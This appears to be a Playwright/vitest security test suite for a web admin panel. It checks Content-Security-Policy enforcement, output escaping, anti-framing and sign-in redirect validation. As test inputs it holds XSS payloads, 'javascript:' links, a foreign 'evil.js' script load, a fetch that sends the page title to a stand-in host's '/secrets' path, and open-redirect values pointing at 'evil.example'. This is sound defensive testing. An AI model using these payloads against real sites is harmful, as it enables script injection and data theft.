import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { routes } from '@vakhta/api';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser, type Visitor, visit } from './browser.ts';
import { type RunningDemo, startDemo } from './demo.ts';
import { eventually } from './eventually.ts';
import { signIn } from './sign-in.ts';

/** What a browser lets the panel do, and what it does not. */
let demo: RunningDemo;
let browser: Browser;
let member: Visitor;
let elsewhere: Server;
let elsewhereUrl: string;
/** What another site was asked. */
const heard: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    heard.push(request.url ?? '');
    const script = request.url === '/evil.js';
    response.writeHead(200, {
      'content-type': script ? 'text/javascript' : 'text/html',
      'access-control-allow-origin': '*',
    });
    response.end(script ? 'window.taken = true' : `<iframe src="${demo.url}/"></iframe>`);
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  [demo, browser] = await Promise.all([startDemo(), launchBrowser()]);
  member = await visit(browser, demo.url);
  await keepViolations(member.page);
  await signIn(member.page, demo);
  await member.page.getByRole('heading', { name: 'Desk' }).waitFor();
});
afterAll(async () => {
  await browser?.close();
  elsewhere?.close();
  expect(await demo?.stop()).toBe(0);
});

/** The browser tells a page of everything its policy refused; kept from its first moment on. */
async function keepViolations(page: Page): Promise<void> {
  await page.addInitScript(`
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      window.violations.push(event.effectiveDirective + ' ' + event.blockedURI));`);
  await page.reload();
}
const violations = (page: Page) => page.evaluate<string[]>('window.violations');
/** Runs in the page as its own scripts do, under its policy. */
const attempt = (page: Page, code: string) => page.evaluate<unknown>(`(async () => { ${code} })()`);

test('no page of the panel needs anything that its policy refuses, and the policy allows nothing inline', async () => {
  const { page } = member;
  const { items } = await demo.api.call(routes.listThings, { query: { limit: 1 } });
  const seen: string[] = [];
  for (const path of [
    '/',
    `/things/${items[0]!.id}`,
    '/commands',
    '/alerts',
    '/alerts/rules',
    '/sites',
    '/agents',
    '/members',
    '/audit',
    '/account',
    '/wall',
    '/forgot',
    '/reset#made-up',
    '/join#made-up',
  ]) {
    const response = await page.goto(demo.url + path);
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/script-src 'self';/);
    expect(policy).not.toContain('unsafe');
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle').catch(() => undefined);
    seen.push(...(await violations(page)).map((one) => `${path}: ${one}`));
  }
  expect(seen).toEqual([]);
  // That a made-up link is refused is told in the console, too.
  expect(member.problems.filter((text) => !text.includes('422'))).toEqual([]);
});

test('the browser itself refuses code that is inline, made from text or from another host', async () => {
  const { page } = member;
  await page.goto(demo.url);
  await page.getByRole('heading', { name: 'Desk' }).waitFor();
  const refused = await attempt(
    page,
    `
    const inline = document.createElement('script');
    inline.textContent = 'window.taken = true';
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = '${elsewhereUrl}/evil.js';
    document.body.append(foreign);
    await new Promise((done) => { foreign.onerror = done; foreign.onload = done; });
    document.body.insertAdjacentHTML('beforeend', '<img src="/no-picture" onerror="window.taken = true"><a id="trap" href="javascript:window.taken = true">x</a>');
    document.getElementById('trap').click();
    let made = 'ran';
    try { new Function('window.taken = true')(); } catch (error) { made = error.name; }
    let told = 'sent';
    try { await fetch('${elsewhereUrl}/secrets?' + document.title); } catch (error) { told = error.name; }
    const frame = document.createElement('iframe');
    frame.src = '${elsewhereUrl}/frame';
    document.body.append(frame);
    return { taken: window.taken === true, made, told };
  `,
  );
  const told = async () => (await violations(page)).map((one) => one.split(' ')[0]);
  await eventually(async () => (await told()).includes('frame-src'));
  expect(refused).toEqual({ taken: false, made: 'EvalError', told: 'TypeError' });
  expect(heard).toEqual([]);
  for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src', 'frame-src'])
    expect(await told()).toContain(directive);
});

test('what somebody typed or a machine said is text wherever it is shown', async () => {
  const { page } = member;
  const name = '<img src=x onerror="window.taken=true"><script>window.taken=true</script>';
  const site = await demo.api.call(routes.createSite, { body: { name } });
  for (const path of ['/sites', '/audit']) {
    await page.goto(demo.url + path);
    await page.getByText(name).first().waitFor();
    expect(
      await page.evaluate('[window.taken === true, document.querySelectorAll("img[src=x]").length]'),
    ).toEqual([false, 0]);
    expect(await violations(page)).toEqual([]);
  }
  await demo.api.call(routes.removeSite, { params: { site: site.id } });
});

test('no other page frames the desk', async () => {
  const { context, page } = await visit(browser, `${elsewhereUrl}/around`);
  await page.waitForLoadState('load');
  const inside = page.frames().find((frame) => frame !== page.mainFrame());
  expect(await inside?.evaluate('document.body.innerText').catch(() => '')).not.toContain('Sign in');
  expect(inside?.url()).not.toBe(`${demo.url}/`);
  await context.close();
});

test('the sign-in page leads to our own pages only', async () => {
  for (const to of [
    '//evil.example',
    '/\\evil.example',
    'https://evil.example',
    'javascript:alert(1)',
    '/\\/evil.example',
  ]) {
    const { context, page, problems } = await visit(
      browser,
      `${demo.url}/sign-in?to=${encodeURIComponent(to)}`,
    );
    await signIn(page, demo);
    await page.getByRole('heading', { name: 'Desk' }).waitFor();
    expect(new URL(page.url()).origin).toBe(new URL(demo.url).origin);
    expect(problems).toEqual([]);
    await context.close();
  }
});
